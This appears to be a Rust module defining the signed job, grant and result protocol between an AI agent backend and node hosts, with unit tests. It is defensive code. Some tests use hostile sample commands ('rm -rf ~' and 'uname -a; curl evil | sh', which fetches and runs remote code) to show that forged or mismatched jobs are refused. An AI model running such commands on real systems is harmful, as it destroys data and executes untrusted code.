//! The signed messages between the backend and a node host: exec jobs, approval grants,
//! policy updates (backend → node, on the node's queue) and results (node → backend).
//!
//! Background work (spec §4): an [`ExecJob`] may carry `yield_ms`/`pty`; a node answers a
//! command still running after the yield with [`ExecReport::running`]; `process` tool calls
//! travel as [`ProcessJob`]s and come back as [`ProcessReport`]s; a backgrounded command's
//! end is a [`ProcessExit`]. What a node posts to the backend is a [`NodeResult`].
//!
//! # Keys
//!
//! At pairing a node gets a random secret. The node keeps it (0600); the backend keeps only
//! [`secret_hash`] of it, which authenticates the node's requests ([`verify_node_secret`]).
//! Messages are signed with HMAC-SHA256 under [`signing_key`], derived from that hash, so both
//! sides can sign and check without the backend ever storing the secret. What this means: a
//! copy of the registry lets nobody *act as* a node (that needs the secret), but together with
//! write access to a node's queue it would let someone sign jobs for it; the node still applies
//! its own local policy to every job, and a grant only ever approves the exact command it is
//! bound to.
//!
//! # Envelopes
//!
//! Every message is an [`Envelope`]: the payload as a JSON *string* plus the hex HMAC of
//! exactly those bytes, so nothing depends on JSON canonicalisation. A payload names its node,
//! carries a unique nonce and an expiry, and is refused when the signature, the node, the
//! expiry or (on the node, through its journal) the nonce does not check out.
//!
//! # Grants
//!
//! A person's approval travels as a [`Grant`] signed on its own, bound to
//! [`command_binding`] (SHA-256 over argv, cwd and env) and to the job id. A node accepts a
//! grant only for a job whose own argv, cwd and env hash to the same binding, so a grant can
//! never approve another command (OpenClaw #8682 was exactly such a bypass).

use std::collections::BTreeMap;

use hmac::{Hmac, Mac};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::AllowlistEntry;

pub use super::media::{NodeFile, RefusedFile};

type HmacSha256 = Hmac<Sha256>;

/// Domain separation for the signing key.
const SIGNING_KEY_CONTEXT: &[u8] = b"clawless node signing key v1";
/// Domain separation for the command binding.
const BINDING_CONTEXT: &[u8] = b"clawless exec binding v1";
/// Domain separation for job ids.
const JOB_ID_CONTEXT: &[u8] = b"clawless exec job v1";

/// Hex SHA-256 of a node secret: what the registry stores instead of the secret.
pub fn secret_hash(secret: &str) -> String {
    hex::encode(Sha256::digest(secret.as_bytes()))
}

/// True when `secret` hashes to `stored_hash`, compared in constant time.
pub fn verify_node_secret(secret: &str, stored_hash: &str) -> bool {
    let computed = secret_hash(secret);
    constant_time_eq(computed.as_bytes(), stored_hash.as_bytes())
}

/// The HMAC key for a node's messages, derived from the stored secret hash.
pub fn signing_key(stored_secret_hash: &str) -> Vec<u8> {
    let mut mac = hmac_with(stored_secret_hash.as_bytes());
    mac.update(SIGNING_KEY_CONTEXT);
    mac.finalize().into_bytes().to_vec()
}

/// The idempotent id of the exec job for one tool call: a SHA-256 over session key, turn and
/// call id (hex, 32 chars), so a redelivered turn event produces the same job.
pub fn exec_job_id(session_key: &str, turn: u64, call_id: &str) -> String {
    let mut hasher = Sha256::new();
    hasher.update(JOB_ID_CONTEXT);
    for part in [
        session_key.as_bytes(),
        &turn.to_be_bytes(),
        call_id.as_bytes(),
    ] {
        hasher.update((part.len() as u64).to_be_bytes());
        hasher.update(part);
    }
    hex::encode(&hasher.finalize()[..16])
}

/// SHA-256 (hex) over exactly what will run: argv, cwd and env, length-prefixed so no two
/// different commands share a binding.
pub fn command_binding(
    argv: &[String], cwd: Option<&str>, env: &BTreeMap<String, String>,
) -> String {
    let mut hasher = Sha256::new();
    hasher.update(BINDING_CONTEXT);
    let mut field = |bytes: &[u8]| {
        hasher.update((bytes.len() as u64).to_be_bytes());
        hasher.update(bytes);
    };
    field(&(argv.len() as u64).to_be_bytes());
    for arg in argv {
        field(arg.as_bytes());
    }
    match cwd {
        Some(cwd) => {
            field(b"cwd");
            field(cwd.as_bytes());
        }
        None => field(b"no-cwd"),
    }
    field(&(env.len() as u64).to_be_bytes());
    for (key, value) in env {
        field(key.as_bytes());
        field(value.as_bytes());
    }
    hex::encode(hasher.finalize())
}

/// A signed message: the payload JSON as sent, and the hex HMAC-SHA256 of its bytes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Envelope {
    /// The payload, a JSON document, as the exact string that was signed.
    pub payload: String,
    /// Hex HMAC-SHA256 of `payload` under the node's signing key.
    pub signature: String,
}

/// Why a message was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum WireError {
    /// Not an envelope, or the payload does not parse.
    #[error("malformed message: {0}")]
    Malformed(String),
    /// The signature is missing or wrong.
    #[error("bad signature")]
    BadSignature,
    /// Signed for another node.
    #[error("message is for node {0}")]
    WrongNode(String),
    /// Past its expiry.
    #[error("message expired at {0} ms")]
    Expired(u64),
    /// A grant that does not approve this job's command.
    #[error("grant does not match this command")]
    GrantMismatch,
}

impl Envelope {
    /// Signs `payload` (serialised once, here) with `key`.
    pub fn seal<T: Serialize>(payload: &T, key: &[u8]) -> Result<Self, WireError> {
        let payload =
            serde_json::to_string(payload).map_err(|err| WireError::Malformed(err.to_string()))?;
        let signature = sign(key, payload.as_bytes());
        Ok(Self { payload, signature })
    }

    /// Checks the signature (constant time) and parses the payload.
    pub fn open<T: for<'de> Deserialize<'de>>(&self, key: &[u8]) -> Result<T, WireError> {
        let Ok(claimed) = hex::decode(self.signature.trim()) else {
            return Err(WireError::BadSignature);
        };
        let mut mac = hmac_with(key);
        mac.update(self.payload.as_bytes());
        mac.verify_slice(&claimed)
            .map_err(|_| WireError::BadSignature)?;
        serde_json::from_str(&self.payload).map_err(|err| WireError::Malformed(err.to_string()))
    }

    /// Parses an envelope from a queue message or request body.
    pub fn parse(body: &str) -> Result<Self, WireError> {
        serde_json::from_str(body).map_err(|err| WireError::Malformed(err.to_string()))
    }

    /// The envelope as JSON.
    pub fn to_json(&self) -> String {
        serde_json::json!({"payload": self.payload, "signature": self.signature}).to_string()
    }
}

/// What the backend sends a node.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "camelCase")]
#[allow(
    clippy::large_enum_variant,
    reason = "one message per queue delivery, opened and dropped: its size costs nothing"
)]
pub enum NodeMessage {
    /// Run a command.
    Job(ExecJob),
    /// Add an allowlist entry granted from the chat.
    PolicyUpdate(PolicyUpdate),
    /// Act on a backgrounded command (`process` tool, spec §4.4).
    Process(ProcessJob),
}

impl NodeMessage {
    /// The node the message is for.
    pub fn node_id(&self) -> &str {
        match self {
            Self::Job(job) => &job.node_id,
            Self::PolicyUpdate(update) => &update.node_id,
            Self::Process(job) => &job.node_id,
        }
    }

    /// The message's unique nonce.
    pub fn nonce(&self) -> &str {
        match self {
            Self::Job(job) => &job.nonce,
            Self::PolicyUpdate(update) => &update.nonce,
            Self::Process(job) => &job.nonce,
        }
    }

    /// When the message stops being valid (ms since the epoch).
    pub fn expires_at_ms(&self) -> u64 {
        match self {
            Self::Job(job) => job.deadline_ms,
            Self::PolicyUpdate(update) => update.expires_at_ms,
            Self::Process(job) => job.deadline_ms,
        }
    }

    /// Opens and checks a message on the node: signature, addressee and expiry. The caller
    /// checks the nonce against its journal (replays).
    pub fn open_for_node(
        envelope: &Envelope, key: &[u8], node_id: &str, now_ms: u64,
    ) -> Result<Self, WireError> {
        let message: Self = envelope.open(key)?;
        if message.node_id() != node_id {
            return Err(WireError::WrongNode(message.node_id().to_owned()));
        }
        if now_ms > message.expires_at_ms() {
            return Err(WireError::Expired(message.expires_at_ms()));
        }
        if let Self::Job(job) = &message
            && let Some(grant) = &job.grant
        {
            grant.check(key, job, now_ms)?;
        }
        Ok(message)
    }
}

/// One command for a node to run (spec §8.3 `system.run`, as a job).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ExecJob {
    /// Idempotent id ([`exec_job_id`]).
    pub job_id: String,
    /// Attempt number: 0 first, higher when re-sent with a grant.
    pub attempt: u32,
    /// The node that must run it.
    pub node_id: String,
    /// The agent asking.
    pub agent_id: String,
    /// The session it belongs to.
    pub session_key: String,
    /// The tool call it answers.
    pub call_id: String,
    /// What runs: `["/bin/sh", "-lc", command]`.
    pub argv: Vec<String>,
    /// The command as the model wrote it (checked against argv by the node).
    pub raw_command: String,
    /// Working directory; the node's default when absent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cwd: Option<String>,
    /// Environment overrides (checked by the node, §8.3).
    #[serde(default)]
    pub env: BTreeMap<String, String>,
    /// Longest the command may run.
    pub timeout_ms: u64,
    /// After this the job is void (the backend has already answered with a timeout).
    pub deadline_ms: u64,
    /// When the backend issued it.
    pub issued_at_ms: u64,
    /// Unique per send (replay protection).
    pub nonce: String,
    /// A person's approval for exactly this command, when one was given.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub grant: Option<SignedGrant>,
    /// Set for a sandboxed session's command: the node must run it in its jail, and a node
    /// without one refuses it. Never downgraded to a bare-host run.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sandbox: Option<JobSandbox>,
    /// How long the node waits for the command before backgrounding it (spec §4.1): `None`
    /// runs it to the end as before, `Some(0)` backgrounds at once (`background: true`); the
    /// backend clamps with [`clamp_yield_ms`] before sending.
    #[serde(default)]
    pub yield_ms: Option<u64>,
    /// Run the command in a pseudo-terminal (ignored for a sandboxed job, spec §4.1).
    #[serde(default)]
    pub pty: bool,
}

/// The jail a sandboxed session's command runs in (spec §5.1 item 4), part of the signed job.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct JobSandbox {
    /// The sandbox workspace's name (the scope key's slug): the node's folder for it is
    /// bound as `/workspace`. Only `[a-z0-9._-]`, never `.` or `..`.
    pub slug: String,
    /// Whether the jail shares the node's network; `false` gives it none at all.
    #[serde(default)]
    pub network: bool,
    /// The address space a process in the jail may use, in MiB.
    pub memory_mb: u64,
    /// How many processes the jail's user may run at once.
    pub max_processes: u64,
}

impl JobSandbox {
    /// Default `memory_mb`.
    pub const DEFAULT_MEMORY_MB: u64 = 1024;
    /// Default `max_processes`.
    pub const DEFAULT_MAX_PROCESSES: u64 = 256;

    /// A sandbox block for `slug` with the default limits and no network.
    pub fn new(slug: impl Into<String>) -> Self {
        Self {
            slug: slug.into(),
            network: false,
            memory_mb: Self::DEFAULT_MEMORY_MB,
            max_processes: Self::DEFAULT_MAX_PROCESSES,
        }
    }

    /// True when `slug` names one folder and nothing else: non-empty, at most 128 of
    /// `[a-z0-9._-]`, not `.` or `..`. A node refuses a job whose slug is not.
    pub fn slug_is_safe(&self) -> bool {
        let slug = self.slug.as_str();
        !slug.is_empty()
            && slug.len() <= 128
            && slug != "."
            && slug != ".."
            && slug
                .bytes()
                .all(|byte| matches!(byte, b'a'..=b'z' | b'0'..=b'9' | b'.' | b'_' | b'-'))
    }
}

/// True for environment names that carry credentials (`…API_KEY`, `…TOKEN`, `…SECRET`,
/// `…PASSWORD`, `…PRIVATE_KEY`, compared uppercased): they never enter a jail.
pub fn is_secret_env_name(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    ["API_KEY", "TOKEN", "SECRET", "PASSWORD", "PRIVATE_KEY"]
        .iter()
        .any(|suffix| upper.ends_with(suffix))
}

impl ExecJob {
    /// The journal key of this attempt: a job runs at most once per attempt.
    pub fn journal_key(&self) -> String {
        format!("{}#{}", self.job_id, self.attempt)
    }

    /// The binding of this job's command.
    pub fn binding(&self) -> String {
        command_binding(&self.argv, self.cwd.as_deref(), &self.env)
    }
}

/// A person's decision, as a grant carries it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum GrantDecision {
    /// Run this command once.
    AllowOnce,
    /// Run it; the backend also adds an argv-bound allowlist entry.
    AllowAlways,
}

/// An approval bound to one command and one job.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Grant {
    /// The job it approves.
    pub job_id: String,
    /// [`command_binding`] of the approved command.
    pub binding: String,
    /// What the person chose.
    pub decision: GrantDecision,
    /// Who approved (platform user id).
    pub approved_by: String,
    /// After this the grant is void.
    pub expires_at_ms: u64,
}

/// A grant and its own signature (an [`Envelope`] of the grant).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SignedGrant(pub Envelope);

impl SignedGrant {
    /// Signs a grant.
    pub fn seal(grant: &Grant, key: &[u8]) -> Result<Self, WireError> {
        Envelope::seal(grant, key).map(Self)
    }

    /// Opens the grant and checks that it approves exactly `job`'s command and is current.
    pub fn check(&self, key: &[u8], job: &ExecJob, now_ms: u64) -> Result<Grant, WireError> {
        let grant: Grant = self.0.open(key)?;
        if grant.job_id != job.job_id
            || !constant_time_eq(grant.binding.as_bytes(), job.binding().as_bytes())
        {
            return Err(WireError::GrantMismatch);
        }
        if now_ms > grant.expires_at_ms {
            return Err(WireError::Expired(grant.expires_at_ms));
        }
        Ok(grant)
    }
}

/// An allowlist entry granted from the chat, for one agent on one node.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PolicyUpdate {
    /// The node.
    pub node_id: String,
    /// The agent the entry applies to.
    pub agent_id: String,
    /// The entry (argv-bound).
    pub entry: AllowlistEntry,
    /// The registry's policy version after this entry.
    pub policy_version: u64,
    /// Unique per send.
    pub nonce: String,
    /// After this the update is void (the node also gets the policy at heartbeat).
    pub expires_at_ms: u64,
}

/// What running (or refusing) a job produced, as the node reports it.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ExecOutcome {
    /// Exit code; absent when killed by a signal or never started.
    #[serde(default)]
    pub exit_code: Option<i32>,
    /// True when the timeout killed it.
    #[serde(default)]
    pub timed_out: bool,
    /// `exit_code == 0 && !timed_out && error.is_none()`.
    #[serde(default)]
    pub success: bool,
    /// Standard output (capped).
    #[serde(default)]
    pub stdout: String,
    /// Standard error (capped).
    #[serde(default)]
    pub stderr: String,
    /// Why it did not run or did not finish (denials, spawn failures, interruptions).
    #[serde(default)]
    pub error: Option<String>,
}

/// Why a node refused a job without running it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ExecDenial {
    /// Short reason (`security=deny`, `approval-required`, `allowlist-miss`, `env-rejected`, …).
    pub reason: String,
    /// The exact denial text (`SYSTEM_RUN_DENIED: approval required`, …).
    pub message: String,
    /// True when a person's approval would let it run.
    #[serde(default)]
    pub approval_required: bool,
    /// The decisions a person may take (`allow-once`, `allow-always`, `deny`).
    #[serde(default)]
    pub allowed_decisions: Vec<String>,
}

/// A node's report for one job attempt.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ExecReport {
    /// The job.
    pub job_id: String,
    /// The attempt reported.
    pub attempt: u32,
    /// The reporting node.
    pub node_id: String,
    /// What happened (for a denial: `error` holds the denial text).
    pub outcome: ExecOutcome,
    /// Set when the node refused the job.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub denial: Option<ExecDenial>,
    /// True when the job was running when the node stopped and was not run again.
    #[serde(default)]
    pub interrupted: bool,
    /// How long it ran.
    #[serde(default)]
    pub duration_ms: u64,
    /// For an `allow-always` grant: the argv-bound allowlist entries the node derived from
    /// the command it ran (the backend records them and sends them back as policy updates).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow_always_entries: Vec<AllowlistEntry>,
    /// The files the command named on `MEDIA:` lines of its output, uploaded with the result
    /// (empty from a node that predates them).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub files: Vec<NodeFile>,
    /// The `MEDIA:` lines whose files the node did not upload, with the reason.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub refused_files: Vec<RefusedFile>,
    /// Unique per report.
    pub nonce: String,
    /// When the node sent it.
    pub sent_at_ms: u64,
    /// Set when the command was backgrounded and still runs: `outcome` then holds the
    /// output so far and the model sees [`running_text`].
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub running: Option<RunningProcess>,
}

/// The shortest `yieldMs` a node honours (spec §4.1, vector 14).
pub const YIELD_MS_MIN: u64 = 10;
/// The longest `yieldMs` a node honours.
pub const YIELD_MS_MAX: u64 = 120_000;
/// The longest a `process poll` waits (spec §4.4, vector 15).
pub const POLL_WAIT_MAX_MS: u64 = 120_000;

/// The `process` actions a node carries out (everything but `list`, which the backend answers
/// from its index), spec §4.4.
pub const NODE_PROCESS_ACTIONS: [&str; 9] = [
    "poll",
    "log",
    "write",
    "send-keys",
    "submit",
    "paste",
    "kill",
    "clear",
    "remove",
];

/// Clamps a requested `yieldMs` to 10…120,000 ms; `0` stays `0` (background at once).
pub fn clamp_yield_ms(requested: u64) -> u64 {
    if requested == 0 {
        0
    } else {
        requested.clamp(YIELD_MS_MIN, YIELD_MS_MAX)
    }
}

/// A backgrounded command that still runs, as an [`ExecReport`] announces it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct RunningProcess {
    /// The process session's id: a word slug (`swift-otter`).
    pub session_id: String,
    /// The command's process id on the node, when known.
    #[serde(default)]
    pub pid: Option<u32>,
    /// When it started (ms since the epoch).
    pub started_at_ms: u64,
    /// Its working directory.
    #[serde(default)]
    pub cwd: Option<String>,
    /// The last 2,000 chars of its output so far.
    #[serde(default)]
    pub tail: String,
}

/// What the model sees for a backgrounded command (spec §4.2), exactly.
pub fn running_text(running: &RunningProcess) -> String {
    let pid = running
        .pid
        .map_or_else(|| "n/a".to_owned(), |pid| pid.to_string());
    format!(
        "Command still running (session {}, pid {pid}). Use process (list/poll/log/write/kill/clear/remove) for follow-up.",
        running.session_id
    )
}

/// One `process` tool call for a node to carry out (spec §4.4), signed like [`ExecJob`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ProcessJob {
    /// Unique id of this call's job (the node answers with it).
    pub job_id: String,
    /// The node that owns the process.
    pub node_id: String,
    /// The agent asking.
    pub agent_id: String,
    /// The session asking: a process is visible only to the session key that started it.
    pub session_key: String,
    /// The tool call it answers.
    pub call_id: String,
    /// The process session (`sessionId`), absent for `list`.
    #[serde(default)]
    pub session_id: Option<String>,
    /// The action, as the model wrote it (`list`, `poll`, `log`, `write`, …).
    pub action: String,
    /// The tool's arguments, unchanged: `data`, `keys`, `hex`, `literal`, `text`,
    /// `bracketed`, `eof`, `offset`, `limit`, `timeout`.
    #[serde(default)]
    pub args: serde_json::Value,
    /// How long `poll` may wait, already capped by the backend (the node caps it again at
    /// [`POLL_WAIT_MAX_MS`]).
    #[serde(default)]
    pub wait_ms: u64,
    /// After this the job is void.
    pub deadline_ms: u64,
    /// When the backend issued it.
    pub issued_at_ms: u64,
    /// Unique per send (replay protection).
    pub nonce: String,
}

/// A node's answer to a [`ProcessJob`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ProcessReport {
    /// The job answered.
    pub job_id: String,
    /// The answering node.
    pub node_id: String,
    /// False for the spec's failures (`details.status` is then `"failed"`).
    pub ok: bool,
    /// Exactly what the model sees.
    pub text: String,
    /// The tool result's details.
    #[serde(default)]
    pub details: serde_json::Value,
}

/// A backgrounded command ended (spec §4.5): posted by the node, journaled there and resent
/// until the backend answers 2xx; `event_id` makes the backend's handling exactly-once.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ProcessExit {
    /// The node it ran on.
    pub node_id: String,
    /// The agent that started it.
    pub agent_id: String,
    /// The session that started it (and gets the event).
    pub session_key: String,
    /// The process session's slug.
    pub session_id: String,
    /// The exec job that started it.
    pub exec_job_id: String,
    /// The command as the model wrote it.
    pub command: String,
    /// Exit code; absent when a signal ended it or the exit is unknown.
    #[serde(default)]
    pub exit_code: Option<i32>,
    /// The signal that ended it (`SIGKILL`, …), or `lost` when the node cannot know how it
    /// ended.
    #[serde(default)]
    pub signal: Option<String>,
    /// `exit_code == Some(0)`.
    pub success: bool,
    /// The last 2,000 chars of its output.
    #[serde(default)]
    pub tail: String,
    /// When it started (ms since the epoch).
    pub started_at_ms: u64,
    /// When it ended.
    pub ended_at_ms: u64,
    /// `<node_id>:<session_id>`: unique per ended process.
    pub event_id: String,
}

impl ProcessExit {
    /// The event id for a process session on a node.
    pub fn event_id_for(node_id: &str, session_id: &str) -> String {
        format!("{node_id}:{session_id}")
    }
}

/// How many chars of the tail the exit event considers.
const EXIT_EVENT_TAIL_CHARS: usize = 400;
/// The longest output an exit event carries (including the `…`).
const EXIT_EVENT_OUTPUT_CHARS: usize = 180;

/// The system event for an ended background command (spec §4.5, vector 16):
/// `Exec completed (swift-ot, code 0) :: done`. The output is the last 400 chars of the tail
/// with whitespace collapsed, cut to 180 chars ending in `…`. A success with no output is
/// silent (`None`) unless `empty_success_notifies`; without output the ` :: …` part is left out.
pub fn exit_event_text(exit: &ProcessExit, empty_success_notifies: bool) -> Option<String> {
    let tail_chars = exit.tail.chars().count();
    let recent: String = exit
        .tail
        .chars()
        .skip(tail_chars.saturating_sub(EXIT_EVENT_TAIL_CHARS))
        .collect();
    let collapsed = recent.split_whitespace().collect::<Vec<_>>().join(" ");
    let output = if collapsed.chars().count() > EXIT_EVENT_OUTPUT_CHARS {
        let mut cut: String = collapsed
            .chars()
            .take(EXIT_EVENT_OUTPUT_CHARS - 1)
            .collect();
        cut.push('…');
        cut
    } else {
        collapsed
    };
    if exit.success && output.is_empty() && !empty_success_notifies {
        return None;
    }
    let status = if exit.success { "completed" } else { "failed" };
    let short_id: String = exit.session_id.chars().take(8).collect();
    let how = match (&exit.signal, exit.exit_code) {
        (Some(signal), _) => format!("signal {signal}"),
        (None, Some(code)) => format!("code {code}"),
        (None, None) => "code unknown".to_owned(),
    };
    Some(if output.is_empty() {
        format!("Exec {status} ({short_id}, {how})")
    } else {
        format!("Exec {status} ({short_id}, {how}) :: {output}")
    })
}

/// What a node posts to `POST /nodes/results` (inside the signed envelope), tagged by
/// `kind`: `exec`, `process` or `exit`. A body without `kind` is an [`ExecReport`] from a
/// node that predates the tag and parses as [`NodeResult::Exec`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "camelCase")]
pub enum NodeResult {
    /// The result of an exec job.
    Exec(ExecReport),
    /// The answer to a `process` job.
    Process(ProcessReport),
    /// A backgrounded command ended.
    Exit(ProcessExit),
}

impl<'de> Deserialize<'de> for NodeResult {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        use serde::de::Error;
        let mut value = serde_json::Value::deserialize(deserializer)?;
        let kind = match value.as_object_mut() {
            Some(object) => match object.remove("kind") {
                None => None,
                Some(serde_json::Value::String(kind)) => Some(kind),
                Some(other) => return Err(D::Error::custom(format!("bad result kind {other}"))),
            },
            None => return Err(D::Error::custom("a node result must be a JSON object")),
        };
        match kind.as_deref() {
            None | Some("exec") => serde_json::from_value(value)
                .map(Self::Exec)
                .map_err(D::Error::custom),
            Some("process") => serde_json::from_value(value)
                .map(Self::Process)
                .map_err(D::Error::custom),
            Some("exit") => serde_json::from_value(value)
                .map(Self::Exit)
                .map_err(D::Error::custom),
            Some(other) => Err(D::Error::custom(format!("unknown result kind {other}"))),
        }
    }
}

/// Hex HMAC-SHA256 of `bytes` under `key`.
pub fn sign(key: &[u8], bytes: &[u8]) -> String {
    let mut mac = hmac_with(key);
    mac.update(bytes);
    hex::encode(mac.finalize().into_bytes())
}

fn hmac_with(key: &[u8]) -> HmacSha256 {
    // HMAC accepts keys of any length; this cannot fail.
    match <HmacSha256 as Mac>::new_from_slice(key) {
        Ok(mac) => mac,
        Err(_) => unreachable!("HMAC-SHA256 takes keys of any length"),
    }
}

/// Byte comparison whose time does not depend on where the inputs differ.
pub fn constant_time_eq(left: &[u8], right: &[u8]) -> bool {
    subtle::ConstantTimeEq::ct_eq(left, right).into()
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &str = "node-secret-for-tests";

    fn key() -> Vec<u8> {
        signing_key(&secret_hash(SECRET))
    }

    fn job() -> ExecJob {
        ExecJob {
            job_id: exec_job_id("agent:main:main", 3, "call_1"),
            attempt: 0,
            node_id: "node-a".to_owned(),
            agent_id: "main".to_owned(),
            session_key: "agent:main:main".to_owned(),
            call_id: "call_1".to_owned(),
            argv: ["/bin/sh", "-lc", "uname -a"].map(str::to_owned).to_vec(),
            raw_command: "uname -a".to_owned(),
            cwd: Some("/home/me".to_owned()),
            env: BTreeMap::new(),
            timeout_ms: 30_000,
            deadline_ms: 2_000,
            issued_at_ms: 1_000,
            nonce: "n1".to_owned(),
            grant: None,
            sandbox: None,
            yield_ms: None,
            pty: false,
        }
    }

    fn grant_for(job: &ExecJob) -> Grant {
        Grant {
            job_id: job.job_id.clone(),
            binding: job.binding(),
            decision: GrantDecision::AllowOnce,
            approved_by: "owner".to_owned(),
            expires_at_ms: 5_000,
        }
    }

    #[test]
    fn a_sealed_job_opens_for_its_node_before_its_deadline() {
        let envelope = Envelope::seal(&NodeMessage::Job(job()), &key()).unwrap();
        let opened = NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500).unwrap();
        assert_eq!(opened, NodeMessage::Job(job()));
    }

    #[test]
    fn forged_unsigned_misaddressed_and_expired_jobs_are_refused() {
        let envelope = Envelope::seal(&NodeMessage::Job(job()), &key()).unwrap();
        // Forged: the payload changed after signing.
        let mut forged = envelope.clone();
        forged.payload = forged.payload.replace("uname -a", "rm -rf ~");
        assert_eq!(
            NodeMessage::open_for_node(&forged, &key(), "node-a", 1_500),
            Err(WireError::BadSignature)
        );
        // Unsigned, or signed with another node's key.
        let mut unsigned = envelope.clone();
        unsigned.signature = String::new();
        assert_eq!(
            NodeMessage::open_for_node(&unsigned, &key(), "node-a", 1_500),
            Err(WireError::BadSignature)
        );
        let other_key = signing_key(&secret_hash("another secret"));
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &other_key, "node-a", 1_500),
            Err(WireError::BadSignature)
        );
        // For another node.
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-b", 1_500),
            Err(WireError::WrongNode("node-a".to_owned()))
        );
        // Expired.
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 2_001),
            Err(WireError::Expired(2_000))
        );
    }

    #[test]
    fn a_grant_approves_only_the_command_it_is_bound_to() {
        let mut approved = job();
        approved.attempt = 1;
        approved.grant = Some(SignedGrant::seal(&grant_for(&approved), &key()).unwrap());
        let envelope = Envelope::seal(&NodeMessage::Job(approved.clone()), &key()).unwrap();
        assert!(NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500).is_ok());

        // The same grant on another command of the same job id: refused.
        let mut other = approved.clone();
        other.argv[2] = "uname -a; curl evil | sh".to_owned();
        let envelope = Envelope::seal(&NodeMessage::Job(other), &key()).unwrap();
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
            Err(WireError::GrantMismatch)
        );

        // Same argv, other cwd or env: refused too.
        let mut moved = approved.clone();
        moved.cwd = Some("/".to_owned());
        let envelope = Envelope::seal(&NodeMessage::Job(moved), &key()).unwrap();
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
            Err(WireError::GrantMismatch)
        );
        let mut with_env = approved.clone();
        with_env.env.insert("TERM".to_owned(), "xterm".to_owned());
        let envelope = Envelope::seal(&NodeMessage::Job(with_env), &key()).unwrap();
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
            Err(WireError::GrantMismatch)
        );

        // A grant for another job with an identical command: refused.
        let mut elsewhere = approved.clone();
        elsewhere.job_id = exec_job_id("agent:main:main", 4, "call_1");
        let envelope = Envelope::seal(&NodeMessage::Job(elsewhere), &key()).unwrap();
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
            Err(WireError::GrantMismatch)
        );
    }

    #[test]
    fn a_grant_signed_with_another_key_or_expired_is_refused() {
        let mut approved = job();
        let other_key = signing_key(&secret_hash("another secret"));
        approved.grant = Some(SignedGrant::seal(&grant_for(&approved), &other_key).unwrap());
        let envelope = Envelope::seal(&NodeMessage::Job(approved.clone()), &key()).unwrap();
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
            Err(WireError::BadSignature)
        );
        let mut grant = grant_for(&approved);
        grant.expires_at_ms = 1_200;
        approved.grant = Some(SignedGrant::seal(&grant, &key()).unwrap());
        let envelope = Envelope::seal(&NodeMessage::Job(approved), &key()).unwrap();
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
            Err(WireError::Expired(1_200))
        );
    }

    #[test]
    fn bindings_differ_when_argument_boundaries_move() {
        let env = BTreeMap::new();
        let split = ["echo", "a b"].map(str::to_owned);
        let joined = ["echo a", "b"].map(str::to_owned);
        assert_ne!(
            command_binding(&split, None, &env),
            command_binding(&joined, None, &env)
        );
        assert_ne!(
            command_binding(&split, None, &env),
            command_binding(&split, Some(""), &env)
        );
    }

    #[test]
    fn job_ids_are_stable_and_separate_turns_and_calls() {
        let id = exec_job_id("agent:main:main", 1, "call_1");
        assert_eq!(id, exec_job_id("agent:main:main", 1, "call_1"));
        assert_eq!(id.len(), 32);
        assert_ne!(id, exec_job_id("agent:main:main", 2, "call_1"));
        assert_ne!(id, exec_job_id("agent:main:main", 1, "call_2"));
        assert_ne!(
            exec_job_id("a", 1, "bc"),
            exec_job_id("ab", 1, "c"),
            "length prefixes keep field boundaries"
        );
    }

    #[test]
